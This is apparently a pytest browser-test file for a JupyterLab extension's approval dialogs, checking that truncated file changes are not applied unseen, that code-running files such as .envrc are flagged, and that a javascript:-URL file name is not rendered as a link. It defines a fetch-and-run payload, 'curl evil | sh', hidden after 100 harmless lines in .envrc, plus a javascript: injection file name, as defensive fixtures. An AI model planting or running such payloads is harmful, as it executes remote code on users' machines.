"""The Lab extension's approval is faithful (issue 39): each dialog answers only its own
question, a change with something cut is never applied by a bare Apply (Show all shows the
rest, Apply unseen is its own answer), files that run code are named, and a trace links
only workspace-relative file names. The real lackpy kernel, the real JupyterLab with the
installed extension, Debian's Chromium."""

from __future__ import annotations

import os

import pytest

from tests.support.kernel import KERNEL_NAME, make_workspace, outbox_workspace
from tests.support.lab import (
    NotebookPage,
    chromium_missing,
    lab_in_chromium,
    screenshot_dir,
    write_notebook,
)

pytestmark = pytest.mark.skipif(chromium_missing() is not None, reason=chromium_missing() or "")

WAIT_MS = 60_000  # the longest a step may take on a busy machine (answering takes well under 1 s)
SETTLE_MS = 1_500  # long enough for an answer sent to show (the kernel answers in milliseconds)
PAYLOAD = "curl evil | sh"
HARMLESS = "echo hello\n" * 100
# 100 harmless lines, then the payload: past the 80 lines a file's diff shows
WRITE_CUT = f"write_file('.envrc', {HARMLESS + PAYLOAD + chr(10)!r})"
WRITE_CUT_UNSEEN = f"write_file('later.sh', {HARMLESS + PAYLOAD + chr(10)!r})"
ENVRC_REASON = "direnv runs this when a shell enters the folder"
JS_NAME = "javascript:void(document.title='x')"  # a file name that reads as a javascript: URL


@pytest.fixture(scope="module")
def lab(installed_kernelspec, tmp_path_factory):
    """JupyterLab in Chromium over three workspaces: ``calls`` (with ``post``, a write tool
    run in the kernel), ``cut`` (the default approval) and ``trace`` (a file named like a
    javascript: URL); and the folder ``post`` writes into."""
    pytest.importorskip("playwright.sync_api", reason="Playwright is in the test extra")
    root = tmp_path_factory.mktemp("lab-root")
    outbox = tmp_path_factory.mktemp("outbox")
    calls = outbox_workspace(_folder(root, "calls"))
    posts = [f"post({str(outbox / 'first.txt')!r}, 'harmless')",
             f"post({str(outbox / 'second.txt')!r}, {PAYLOAD!r})"]
    write_notebook(calls / "calls.ipynb", KERNEL_NAME, ["%kit post\n" + "\n".join(posts)])
    cut = make_workspace(_folder(root, "cut"))
    write_notebook(cut / "cut.ipynb", KERNEL_NAME,
                   ["%kit read_file,write_file", WRITE_CUT, WRITE_CUT_UNSEEN])
    trace = make_workspace(_folder(root, "trace"))
    (trace / JS_NAME).write_text("hidden\n")
    write_notebook(trace / "trace.ipynb", KERNEL_NAME,
                   [f"[read_file({JS_NAME!r}), read_file('notes.txt')]"])
    with lab_in_chromium(root, tmp_path_factory.mktemp("lab-state"), dict(os.environ)) as running:
        yield (*running, outbox)


def _folder(root, name):
    (root / name).mkdir()
    return root / name


@pytest.fixture(scope="module")
def shots(tmp_path_factory):
    return screenshot_dir(tmp_path_factory.mktemp("screenshots"))


def _open(lab, name: str) -> NotebookPage:
    server, chromium, _ = lab
    page = chromium.new_page(viewport={"width": 1200, "height": 900})
    return NotebookPage(page, server, f"{name}/{name}.ipynb", workspace=name)


def _run(notebook: NotebookPage, index: int) -> None:
    notebook.cell(index).locator(".cm-content").click()
    notebook.page.keyboard.press("Shift+Enter")


def _ran(notebook: NotebookPage, index: int) -> None:
    """Wait until cell ``index`` has run (its prompt has a number)."""
    notebook.page.wait_for_function(
        "cell => /^\\[\\d+\\]:$/.test(cell.querySelector('.jp-InputPrompt').textContent.trim())",
        arg=notebook.cell(index).element_handle(), timeout=WAIT_MS)


def _dialog(notebook: NotebookPage, index: int, nth: int, button: str):
    """The ``nth`` dialog of cell ``index``, once its button ``button`` is enabled."""
    dialog = notebook.cell(index).locator(".lackpy-Changes").nth(nth)
    dialog.get_by_role("button", name=button, exact=True).and_(
        notebook.page.locator(":enabled")).wait_for(timeout=WAIT_MS)
    return dialog


def _live_prompts(notebook: NotebookPage, index: int) -> list[str]:
    """The prompts of cell ``index``'s stdin boxes still waiting for an answer."""
    return notebook.cell(index).locator(
        ".jp-OutputArea-stdin-item:not(.jp-OutputArea-stdin-hiding) .jp-Stdin-prompt").all_inner_texts()


def _force(button) -> None:
    """Click ``button`` as a script could, its disabled state taken off first."""
    button.evaluate("button => { button.disabled = false; button.click(); }")


def test_typing_y_to_the_first_call_never_lets_its_dialog_answer_the_second(lab, shots):
    """Issue 39 item 4: ``post(first, harmless); post(second, payload)``; the first question
    answered by typing ``y`` in the box. The first dialog is over for good: its Apply stays
    off, and even forced it sends nothing to the second question."""
    notebook = _open(lab, "calls")
    outbox = lab[2]
    _run(notebook, 0)
    first = _dialog(notebook, 0, 0, "Apply")
    assert "first.txt" in first.locator(".lackpy-Changes-call").inner_text()
    stdin = notebook.cell(0).locator("input.jp-Stdin-input")
    stdin.fill("y")
    stdin.press("Enter")

    second = _dialog(notebook, 0, 1, "Apply")
    assert "second.txt" in second.locator(".lackpy-Changes-call").inner_text()
    assert (outbox / "first.txt").read_text() == "harmless\n"
    assert first.locator("button:enabled").count() == 0
    assert first.locator(".lackpy-Changes-state").inner_text() == "answered in the box"
    _force(first.get_by_role("button", name="Apply", exact=True))
    notebook.page.wait_for_timeout(SETTLE_MS)
    assert [prompt.strip() for prompt in _live_prompts(notebook, 0)] == ["Call post? [y/N]"]
    assert not (outbox / "second.txt").exists()
    assert first.locator("button:enabled").count() == 0
    assert second.locator(".lackpy-Changes-state").inner_text() == ""
    notebook.screenshot(0, shots / "approval-two-calls.png")

    second.get_by_role("button", name="Discard").click()
    notebook.page.wait_for_function(
        "cell => cell.innerText.includes('post() was not run: it was declined')",
        arg=notebook.cell(0).element_handle(), timeout=WAIT_MS)
    assert second.locator(".lackpy-Changes-state").inner_text() == "discarded"
    assert not (outbox / "second.txt").exists()
    assert (outbox / "first.txt").read_text() == "harmless\n"


def test_a_cut_change_is_not_applied_by_apply_show_all_shows_the_payload_then_apply_lands_it(
        lab, shots):
    """100 harmless lines and then the payload: the dialog says what it did not show and
    that the file runs code; Apply stays off (forced, it sends nothing); Show all has the
    kernel show all of it in a second dialog, whose Apply lands it."""
    server, _, _ = lab
    envrc = server.root / "cut" / ".envrc"
    notebook = _open(lab, "cut")
    _run(notebook, 0)
    _ran(notebook, 0)
    _run(notebook, 1)
    cut = _dialog(notebook, 1, 0, "Show all")
    prompt = _live_prompts(notebook, 1)
    assert len(prompt) == 1 and prompt[0].strip().endswith("[all/unseen/N]")
    assert PAYLOAD not in cut.inner_text()
    assert cut.locator(".lackpy-Changes-runs").all_inner_texts() == [
        f"runs code: .envrc: {ENVRC_REASON}"]
    assert cut.locator(".lackpy-Changes-files tr").all_inner_texts() == [
        f"new\t.envrc\t+101\tRUNS CODE: {ENVRC_REASON}"]
    unseen = cut.locator(".lackpy-Changes-unseen").all_inner_texts()
    assert unseen == ["not shown: .envrc: 22 more lines"]
    apply = cut.get_by_role("button", name="Apply", exact=True)
    assert apply.is_disabled()
    assert cut.get_by_role("button", name="Apply unseen").is_enabled()
    notebook.screenshot(1, shots / "approval-cut.png")
    _force(apply)
    notebook.page.wait_for_timeout(SETTLE_MS)
    assert _live_prompts(notebook, 1) == prompt  # nothing was answered
    assert not envrc.exists()

    cut.get_by_role("button", name="Show all").click()
    whole = _dialog(notebook, 1, 1, "Apply")
    assert cut.locator(".lackpy-Changes-state").inner_text() == "showing all of it below"
    assert cut.locator("button:enabled").count() == 0
    assert whole.locator(".lackpy-Diff-added").last.inner_text() == f"+{PAYLOAD}"
    assert whole.locator(".lackpy-Changes-unseen, .lackpy-Diff-omitted").count() == 0
    assert whole.get_by_role("button", name="Show all").count() == 0
    assert whole.get_by_role("button", name="Apply unseen").count() == 0
    assert [p.strip() for p in _live_prompts(notebook, 1)][-1].endswith("[y/N]")
    assert not envrc.exists()
    notebook.screenshot(1, shots / "approval-cut-shown-all.png")
    whole.get_by_role("button", name="Apply", exact=True).click()
    _ran(notebook, 1)
    assert whole.locator(".lackpy-Changes-state").inner_text() == "applied"
    assert "ChangeRefusedError" not in notebook.cell(1).inner_text()
    assert envrc.read_text() == HARMLESS + PAYLOAD + "\n"

    _run(notebook, 2)
    cut = _dialog(notebook, 2, 0, "Apply unseen")
    cut.get_by_role("button", name="Apply unseen").click()
    _ran(notebook, 2)
    assert cut.locator(".lackpy-Changes-state").inner_text() == "applied without seeing all of it"
    assert (server.root / "cut" / "later.sh").read_text() == HARMLESS + PAYLOAD + "\n"


def test_a_file_named_like_a_javascript_url_is_text_in_the_trace_not_a_link(lab, shots):
    """Issue 39 item 4: a trace links only workspace-relative paths; a name that reads as a
    URL is shown as text, and clicking it runs nothing."""
    notebook = _open(lab, "trace")
    notebook.run_all()
    trace = notebook.cell(0).locator(".lackpy-Trace")
    trace.locator("details").first.evaluate("details => { details.open = true; }")
    files = trace.locator(".lackpy-Trace-files")
    assert files.inner_text() == f"read: {JS_NAME}, notes.txt"
    assert trace.locator(".lackpy-Trace-files a").all_inner_texts() == ["notes.txt"]
    hrefs = notebook.page.evaluate("() => [...document.querySelectorAll('a')].map(a => a.href)")
    assert not [href for href in hrefs if href.lower().lstrip().startswith("javascript:")]
    notebook.screenshot(0, shots / "trace-javascript-name.png")
    title = notebook.page.title()
    files.locator("span", has_text=JS_NAME).click()
    notebook.page.wait_for_timeout(SETTLE_MS)
    assert notebook.page.title() == title != "x"
